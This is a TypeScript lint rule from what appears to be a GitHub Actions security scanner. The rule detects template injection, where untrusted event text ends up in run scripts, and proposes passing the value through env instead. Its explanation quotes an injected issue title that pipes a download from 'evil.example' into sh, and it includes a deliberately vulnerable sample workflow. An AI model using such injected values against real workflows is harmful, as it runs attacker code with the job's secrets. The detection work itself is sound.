import { actions, attack, cwe } from '../../core/references.ts'
import { defineRule, type Report, safeFix, unsafeFix } from '../../core/rule.ts'
import { runsInput } from '../../documents/action-scripts.ts'
import type { Expression } from '../../documents/expression.ts'
import { type ContextPath, yieldedPaths } from '../../documents/expression-paths.ts'
import { openText } from '../../documents/open-contexts.ts'
import { throughEnvironment } from '../../documents/script-fix.ts'
import type { WorkflowExpression } from '../../documents/workflow-model.ts'
import { shellLanguage } from '../../documents/workflow-shell.ts'
import { untrustedParts } from '../../documents/workflow-untrusted.ts'
import type { Span } from '../../source/text.ts'

export default defineRule({
  id: 'workflow/template-injection',
  severity: 'critical',
  threat: 'access',
  strictly: 'every text in a script that neither the workflow nor its form fixes (names of branches, inputs, outputs of steps), as low.',
  summary: 'Text that a stranger writes becomes part of a script',
  why: 'The runner puts the text into the script before any shell reads it: a title such as `"; curl evil.example | sh; "` is then a command, with the secrets and the token of the job.',
  instead: 'Give the value to the step in `env`, and read that variable in the script, in double quotes.',
  references: [
    actions('concepts/security/script-injections', 'script injections'),
    { title: 'GitHub Security Lab: untrusted input', url: 'https://securitylab.github.com/resources/github-actions-untrusted-input/' },
    cwe(94),
    attack('T1059'),
  ],
  peers: [
    'zizmor:template-injection',
    'actionlint:expression',
    'checkov:CKV_GHA_2',
    'scorecard:Dangerous-Workflow',
    'semgrep:run-shell-injection',
    'poutine:injection',
    'kics:run_block_injection',
  ],
  bad: `
on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-24.04
    steps:
      - name: Greet
        run: |
          echo "New issue: \${{ github.event.issue.title }}"
`,
  good: `
on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-24.04
    steps:
      - name: Greet
        env:
          TITLE: \${{ github.event.issue.title }}
        run: |
          echo "New issue: \${TITLE}"
`,
  on: 'workflowExpression',
  *check(found, { strict }) {
    const { expression, step } = found
    if (!expression || !step || !isCode(found)) return
    const strangers = untrustedParts(expression, found)
    const becomes = `becomes part of the ${found.scalar === step.run ? 'script' : 'code'}`
    for (const { span, path, source } of strangers) {
      const read = writtenPath(found, span, path)
      const origin = path.join('.') === source ? '' : `, which holds ${source},`
      yield {
        at: { span: found.placeOf(span) },
        severity: runsWithoutSecrets(found) ? 'high' : 'critical',
        message: `"${read}"${origin} is text of a stranger and ${becomes}`,
        fix: fixFor(found, path),
      }
    }
    for (const { span, path } of callerInputs(found, expression)) {
      const message = `the input "${path[1] ?? ''}" ${becomes}, and a caller may put text of a stranger into it`
      yield { at: { span: found.placeOf(span) }, severity: 'medium', message, fix: fixFor(found, path) }
    }
    for (const { span, path } of strict ? untrustedParts(expression, found, openText(found.workflow)) : []) {
      if (strangers.some((known) => known.span.start === span.start)) continue
      const message = `"${writtenPath(found, span, path)}" ${becomes}, and nothing here fixes its text`
      yield { at: { span: found.placeOf(span) }, severity: 'low', message, fix: fixFor(found, path) }
    }
  },
})

/** As the file has it, if that is only a matter of capitals. */
function writtenPath({ scalar }: WorkflowExpression, { start, end }: Span, path: readonly string[]): string {
  const [written, read] = [scalar.string.slice(start, end), path.join('.')]
  return written.toLowerCase() === read ? written : read
}

/** Inputs of a composite action, which does not know who writes them; not those that are switches. */
function callerInputs({ action }: WorkflowExpression, expression: Expression): readonly ContextPath[] {
  if (!action) return []
  const isSwitch = (name: string) => /^(?:true|false)$/.test(action.at('inputs', name, 'default')?.string ?? '')
  return [...yieldedPaths(expression)].filter(({ path: [context, name = '*'] }) => context === 'inputs' && !isSwitch(name))
}

function isCode({ scalar, path, step }: WorkflowExpression): boolean {
  const [place, input] = path.slice(-2)
  return scalar === step?.run || (path.length > 1 && place === 'with' && runsInput(step?.reference?.name ?? '', String(input)))
}

/** A pull request from a fork gets neither secrets nor a token that writes, and could change the workflow itself. */
const runsWithoutSecrets = ({ workflow }: WorkflowExpression): boolean => {
  const events = [...(workflow?.triggers.keys() ?? [])]
  return events.length > 0 && events.every((event) => event === 'pull_request')
}

function fixFor({ step, text, scalar }: WorkflowExpression, path: readonly string[]): Report['fix'] {
  if (!step || scalar !== step.run || shellLanguage(step) !== 'posix') return undefined
  const words = path.filter((word) => !['github', 'event', 'steps', 'outputs', '*'].includes(word))
  const name = words.join('_').replace(/\W/g, '_').toUpperCase()
  const fix = throughEnvironment(step, text, name)
  return fix ? (fix.safe ? safeFix : unsafeFix)('Hand the text over in `env`', ...fix.edits) : undefined
}
